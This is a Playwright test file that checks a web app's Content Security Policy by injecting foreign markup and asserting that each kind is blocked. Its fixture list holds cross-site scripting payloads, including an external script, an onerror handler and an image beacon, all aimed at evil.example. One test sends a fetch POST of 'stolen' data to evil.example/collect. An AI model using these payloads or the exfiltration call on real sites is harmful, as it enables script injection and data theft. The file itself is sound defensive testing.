import type { Page } from '@playwright/test';
import { aSignedUpRider } from './support/rider.ts';
import { expect, test } from './support/test.ts';

/** Puts markup into the page as an attacker would who can also get scripts started. */
const inject = (page: Page, markup: string) =>
  page.evaluate((html) => {
    document.body.insertAdjacentHTML('beforeend', html);
    for (const inert of document.querySelectorAll('body script')) {
      const script = document.createElement('script');
      script.textContent = inert.textContent;
      if (inert.hasAttribute('src')) script.src = inert.getAttribute('src') ?? '';
      inert.replaceWith(script);
    }
  }, markup);

const FOREIGN = [
  ['an inline script', '<script>document.title = "taken"</script>', 'script-src-elem'],
  ['a script from another site', '<script src="https://evil.example/x.js"></script>', 'script-src-elem'],
  ['a handler in markup', '<img src="/nothing.png" onerror="document.title = \'taken\'">', 'script-src-attr'],
  ['an inline style', '<style>body { display: none }</style>', 'style-src-elem'],
  ['an image from another site', '<img src="https://evil.example/x.png?stolen=1">', 'img-src'],
  ['a frame', '<iframe src="https://evil.example/"></iframe>', 'frame-src'],
  ['an object', '<object data="https://evil.example/x.swf"></object>', 'object-src'],
] as const;

test('markup that the app did not ship is blocked', async ({ page, errors }) => {
  errors.allow(/content policy: |Content Security Policy|X-Frame-Options|^failed GET/);
  errors.allow(/^404 GET \/nothing.png/);
  let blocked: string[] = [];
  page.on('console', (message) => {
    const [, directive] = /^content policy: (\S+) stopped/.exec(message.text()) ?? [];
    if (directive !== undefined) blocked.push(directive);
  });
  for (const [what, markup, directive] of FOREIGN) {
    await test.step(what, async () => {
      await page.goto('/start');
      await expect(page.getByRole('link', { name: 'Get Started' })).toBeVisible();
      blocked = [];
      await inject(page, markup);
      await expect.poll(() => blocked).toContain(directive);
      expect(await page.title()).not.toBe('taken');
      await expect(page.getByRole('link', { name: 'Get Started' })).toBeVisible();
    });
  }
});

test('text does not run as a script, and no data is sent to another site', async ({ page, errors }) => {
  errors.allow(/content policy: |Content Security Policy|^failed (GET|POST)/);
  await page.goto('/start');
  // Imported in the page's own realm: what a test evaluates bypasses the policy.
  const script = await page.evaluate(async () => {
    const source = URL.createObjectURL(new Blob(['export const ran = true'], { type: 'text/javascript' }));
    return import(/* @vite-ignore */ source).then(
      () => 'ran',
      () => 'blocked',
    );
  });
  expect(script).toBe('blocked');
  const call = await page.evaluate(() =>
    fetch('https://evil.example/collect', { method: 'POST', body: 'stolen' }).then(
      () => 'sent',
      () => 'blocked',
    ),
  );
  expect(call).toBe('blocked');
});

test('an open dropdown locks scrolling without an inline style sheet', async ({ page }) => {
  await aSignedUpRider(page);
  await page.goto('/settings');
  await page.getByRole('combobox').first().click();
  await expect(page.getByRole('listbox')).toBeVisible();
  expect(await page.evaluate(() => getComputedStyle(document.body).overflow)).toBe('hidden');
  expect(await page.locator('style').count()).toBe(0);
  await page.keyboard.press('Escape');
  await expect(page.getByRole('listbox')).toBeHidden();
  expect(await page.evaluate(() => getComputedStyle(document.body).overflow)).not.toBe('hidden');
});
